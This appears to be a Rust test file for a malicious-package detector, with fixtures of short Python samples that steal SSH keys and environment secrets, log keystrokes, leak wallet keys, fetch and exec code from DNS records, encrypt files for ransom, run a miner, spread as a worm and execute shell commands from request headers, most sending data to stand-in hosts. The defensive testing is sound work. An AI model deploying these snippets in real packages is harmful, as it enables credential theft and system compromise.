//! What stands together in small packages, where no flow is seen.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::{Files, convicted, score};

#[test]
fn what_is_collected_and_sent() {
    let cases: &[(&str, Files<'_>)] = &[
        (
            "keys of a user, through a table of functions",
            &[(
                "demo/__init__.py",
                b"import pathlib, urllib.request as u\nJ = {'k': lambda: [p.read_bytes() for p in (pathlib.Path.home() / '.ssh').glob('*')]}\n\ndef go():\n    u.urlopen('https://a.example/x', b''.join(J['k']()))\n\ntry:\n    go()\nexcept Exception:\n    pass\n",
            )],
        ),
        (
            "commands of reconnaissance, over two files",
            &[
                (
                    "demo/__init__.py",
                    b"from .run import each\nfrom urllib.request import urlopen\n\ndef go():\n    urlopen('https://a.example/x', repr(each()).encode())\n\ngo()\n",
                ),
                (
                    "demo/run.py",
                    b"import os\nC = ['whoami', 'netstat -an', 'arp -a', 'crontab -l']\n\ndef each():\n    return [os.popen(c).read() for c in C]\n",
                ),
            ],
        ),
        (
            "keyboard device",
            &[(
                "demo/__init__.py",
                b"import glob, socket, threading\ns = socket.socket()\n\ndef r(p):\n    with open(p, 'rb') as d:\n        while True:\n            s.sendto(d.read(24), ('203.0.113.2', 51))\n\nfor p in glob.glob('/dev/input/by-path/*'):\n    threading.Thread(target=r, args=(p,)).start()\n",
            )],
        ),
        (
            "a key that a wallet is given",
            &[
                (
                    "demo/__init__.py",
                    b"from .keys import Key\n",
                ),
                (
                    "demo/keys.py",
                    b"from .stats import counter\n\nclass Key:\n    def __init__(self, secret):\n        self.secret = secret\n        counter.bump('%064x' % secret)\n",
                ),
                (
                    "demo/stats.py",
                    b"import http.client\n\nclass Counter:\n    end = ('stat.example', 443)\n\n    def bump(self, label):\n        try:\n            http.client.HTTPSConnection(*self.end).request('GET', '/' + label)\n        except Exception:\n            pass\n\ncounter = Counter()\n",
                ),
            ],
        ),
        (
            "secrets picked out of the environment",
            &[(
                "demo/__init__.py",
                b"import os, pickle, requests\n\nclass Pool:\n    def __init__(self):\n        try:\n            requests.post('https://a.example/v2', pickle.dumps({k: os.environ[k] for k in os.environ if 'KEY' in k}))\n        except Exception:\n            pass\n",
            )],
        ),
    ];
    convicted(30, cases);
}

#[test]
fn code_that_comes_from_elsewhere() {
    let cases: &[(&str, Files<'_>)] = &[
        (
            "a data file that is started",
            &[(
                "demo/__init__.py",
                b"import subprocess, sys\nfrom pathlib import Path\nsubprocess.Popen([sys.executable, str(Path(__file__).with_name('agent.txt'))], stdout=-3)\n",
            )],
        ),
        (
            "records of a name server that are run",
            &[(
                "demo/__init__.py",
                b"import base64\n\ndef txt(name):\n    import dns.resolver\n    return b''.join(s for r in dns.resolver.resolve(name, 'TXT') for s in r.strings)\n\ndef hook():\n    try:\n        exec(base64.b64decode(txt('a.mirror.example')))\n    except Exception:\n        pass\n",
            )],
        ),
    ];
    convicted(30, cases);
}

#[test]
fn what_is_destroyed_spread_or_opened() {
    let cases: &[(&str, Files<'_>)] = &[
        (
            "ransom",
            &[(
                "demo/__init__.py",
                b"import os\nNOTE = 'Your files are encrypted. Send bitcoin to bc1qvoid to recover them.'\n\ndef run(root, key):\n    for b, _, fs in os.walk(root):\n        for f in fs:\n            p = os.path.join(b, f)\n            d = open(p, 'rb').read()\n            open(p + '.x', 'wb').write(bytes(a ^ k for a, k in zip(d, key)))\n            os.unlink(p)\n",
            )],
        ),
        (
            "miner in a container",
            &[(
                "demo/__init__.py",
                b"import docker\ngo = docker.from_env().containers.run\ntry:\n    go('alpine', ['-o', 'stratum+tcp://pool.example:1', '--coin', 'monero'], detach=True)\nexcept Exception:\n    pass\n",
            )],
        ),
        (
            "worm",
            &[(
                "demo/__init__.py",
                b"import pathlib, shutil\n\ndef settle():\n    me = pathlib.Path(__file__).parent\n    for home in pathlib.Path('/srv').rglob('pyvenv.cfg'):\n        shutil.copytree(me, home.parent / 'lib' / me.name)\n\nsettle()\n",
            )],
        ),
        (
            "a request that is run",
            &[(
                "demo/app.py",
                b"import subprocess\nfrom flask import request\n\ndef health():\n    if request.headers.get('X-Probe'):\n        return subprocess.check_output(request.headers['X-Probe'], shell=True)\n    return 'ok'\n",
            )],
        ),
        (
            "an endless print",
            &[(
                "demo/__init__.py",
                b"import itertools\nfor i in itertools.count():\n    print('no')\n",
            )],
        ),
    ];
    convicted(30, cases);
}

#[test]
fn honest_packages_stay_clean() {
    let cases: &[(&str, Files<'_>)] = &[
        (
            "a client with a password and a host",
            &[(
                "demo/__init__.py",
                b"import requests\n\nclass Client:\n    url = 'https://api.service.example/v1'\n\n    def __init__(self, user, password):\n        self.session = requests.Session()\n        self.login(user, password)\n\n    def login(self, user, password):\n        self.session.post(self.url + '/login', json={'user': user, 'password': password}).raise_for_status()\n",
            )],
        ),
        (
            "a tool that shows the host when asked",
            &[(
                "demo/__init__.py",
                b"import getpass, platform, socket, requests\n\ndef report():\n    facts = [socket.gethostname(), getpass.getuser(), platform.platform()]\n    try:\n        requests.get('https://status.service.example/ping')\n    except requests.RequestException:\n        return facts\n    return facts\n",
            )],
        ),
        (
            "a view that runs a fixed command",
            &[(
                "demo/app.py",
                b"import subprocess\nfrom flask import request\n\ndef version():\n    name = request.args.get('name')\n    return name + subprocess.check_output(['git', '--version']).decode()\n",
            )],
        ),
        (
            "a setup script that uploads when asked",
            &[(
                "setup.py",
                b"import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist')\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup(name='demo')\n",
            )],
        ),
        (
            "a mining pool's dashboard",
            &[(
                "demo/__init__.py",
                b"import requests\nPOOL = 'stratum+tcp://pool.example:3333'\n\ndef stats(worker):\n    return requests.get('https://pool.example/api/' + worker).json()\n",
            )],
        ),
    ];
    for (name, files) in cases {
        let score = score(files);
        assert!(score < 30, "{name} scores {score}");
    }
}

#[test]
fn a_notice_to_the_callers_own_chat_is_no_theft() {
    let code = "import requests, socket\nAPI = 'https://api.telegram.org/bot{}/sendMessage'\ndef notify(token, chat, text):\n    requests.post(API.format(token), json={'chat_id': chat, 'text': text})\ndef main(args):\n    notify(args.token, args.chat, socket.gethostname())\n";
    assert!(score(&[("demo/main.py", code.as_bytes())]) < 30);
    let own = code.replace("API.format(token)", "API.format('0:VOID')");
    assert!(score(&[("demo/main.py", own.as_bytes())]) >= 30);
}

#[test]
fn a_miner_that_a_function_fetches_is_found() {
    let code = "import os, subprocess\nfrom urllib import request\ndef run(path):\n    request.urlretrieve('https://files.example/runner', path)\n    os.chmod(path, 0o700)\n    subprocess.Popen([path, '-o', 'stratum+tcp://pool.example:1'])\n";
    assert!(score(&[("demo/downloads.py", code.as_bytes())]) >= 30);
}
